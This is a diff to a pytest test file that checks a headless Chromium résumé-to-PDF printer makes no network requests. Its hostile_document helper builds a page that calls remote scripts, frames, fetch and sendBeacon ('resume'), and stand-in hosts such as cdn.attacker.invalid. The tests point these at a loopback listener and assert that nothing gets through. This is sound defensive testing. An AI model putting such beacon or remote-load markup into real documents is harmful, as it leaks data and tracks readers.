@@ -1,4 +1,4 @@
-"""Network walls with the real components: research, career pages and discovery.
+"""Network walls with the real components: research, career pages, discovery and Chromium printing PDFs.
 
 Every "attacker" is a listener on a loopback address that counts connections (tests/support/listener.py) or an
 address nothing listens on; the suite's socket guard refuses anything beyond loopback besides. The suite admits
@@ -13,6 +13,7 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from pypdf import PdfReader
 
 from careerpilot.config import Settings
 from careerpilot.discovery.research import ResearchService
@@ -21,6 +22,8 @@ from careerpilot.domain.errors import SourceError
 from careerpilot.domain.jobs import JobPosting
 from careerpilot.memory.sql import Store
 from careerpilot.tools.addresses import AddressGuard
+from careerpilot.tools.browser import launch_chromium, launch_offline_chromium
+from careerpilot.tools.documents import html_to_pdf, pdf_text
 from careerpilot.tools.http import HttpPolicy, PoliteClient
 from careerpilot.tools.sources import normalize_all
 from careerpilot.tools.sources.career_pages import CareerPagesSource
@@ -33,6 +36,9 @@ CHROMIUM = Path("/usr/bin/chromium")
 requires_chromium = pytest.mark.skipif(not CHROMIUM.exists(), reason="no Chromium: apt-get install chromium")
 ABOUT = """<html><head><meta name="description" content="Acme builds routing software for delivery fleets.">
 </head><body><p>Founded in 2015, Acme is a Series B company with 250 employees across Europe.</p></body></html>"""
+PIXEL = "data:image/png;base64," + (  # one red pixel
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
+)
 
 
 @pytest.fixture
@@ -171,3 +177,67 @@ async def test_a_rendered_career_page_cannot_make_chromium_reach_a_non_public_ad
     # speculative connection that never carries a byte; only the PDF printer's offline launch stops even that.
     assert [request_line for request_line in inside.connections if request_line] == []
     assert {url.rsplit("/", 1)[1] for url in source.blocked_requests} >= {"pixel.png", "frame", "beacon", "socket"}
+
+
+# Chromium printing PDFs
+
+
+def hostile_document(listener: str, *, made_up_hosts: bool = True, connection_hints: bool = True) -> str:
+    """A page asking for remote fonts, styles, images, scripts, frames and a redirect (and prefetches, hints)."""
+    remote = [
+        f'<link rel="stylesheet" href="{listener}/style.css">',
+        f"<style>@font-face {{ font-family: Remote; src: url({listener}/font.woff2); }}",
+        f"body {{ font-family: Remote, sans-serif; background: url({listener}/background.png); }}</style>",
+        f'<script src="{listener}/script.js"></script>',
+        f'<script>fetch("{listener}/fetch"); navigator.sendBeacon("{listener}/beacon", "resume");</script>',
+        f'<meta http-equiv="refresh" content="0;url={listener}/refresh">',
+    ]
+    body = [
+        f'<img src="{listener}/photo.png"><iframe src="{listener}/frame"></iframe>',
+        f'<object data="{listener}/object"></object><video src="{listener}/video.mp4" autoplay></video>',
+    ]
+    if connection_hints:
+        remote += [
+            f'<link rel="preconnect" href="{listener}/preconnect"><link rel="prefetch" href="{listener}/prefetch">',
+            f'<link rel="preload" as="image" href="{listener}/preload.png">',
+        ]
+    if made_up_hosts:
+        remote += [
+            '<link rel="dns-prefetch" href="//dns.attacker.invalid">',
+            '<link rel="stylesheet" href="https://fonts.attacker.invalid/css">',
+            '<script src="https://cdn.attacker.invalid/track.js"></script>',
+        ]
+        body += ['<img src="http://images.attacker.invalid/x.png"><iframe src="https://frames.attacker.invalid/">']
+    head = "\n".join(['<meta charset="utf-8">', *remote])
+    text = f'<h1>Jane Doe</h1><p>Backend engineer.</p><img src="{PIXEL}" width="40">'
+    return f"<!doctype html><html><head>{head}</head><body>{text}{''.join(body)}</body></html>"
+
+
+@requires_chromium
+async def test_printing_a_pdf_makes_no_network_request_and_still_prints(tmp_path):
+    with CountingListener() as listener:
+        async with launch_offline_chromium(CHROMIUM) as browser:
+            pdf = await html_to_pdf(browser, hostile_document(listener.url), tmp_path / "resume.pdf")
+
+    assert listener.connections == []
+    assert "Jane Doe" in pdf_text(pdf) and "Backend engineer." in pdf_text(pdf)  # not swapped for an error page
+    assert PdfReader(pdf).pages[0].images  # the data: URL image needs no network and is printed
+
+
+@requires_chromium
+async def test_the_page_wall_holds_even_in_a_chromium_launched_with_network(tmp_path):
+    # The page's route aborts every request, whatever the launch; bare speculative connections (a frame's
+    # preconnect) and hints need the offline launch's resolver rules too (the test above).
+    with CountingListener() as listener:
+        local = hostile_document(listener.url, made_up_hosts=False, connection_hints=False)
+        async with launch_chromium(CHROMIUM) as browser:
+            pdf = await html_to_pdf(browser, local, tmp_path / "resume.pdf")
+            printed_with_wall = list(listener.connections)
+            # The same page in an ordinary page of that browser reaches the listener: the wall is what stops it.
+            ordinary = await browser.new_page()
+            await ordinary.set_content(local, wait_until="load")
+            await ordinary.close()
+
+    assert [request_line for request_line in printed_with_wall if request_line] == []  # bare preconnects aside
+    assert "Jane Doe" in pdf_text(pdf)
+    assert listener.connections
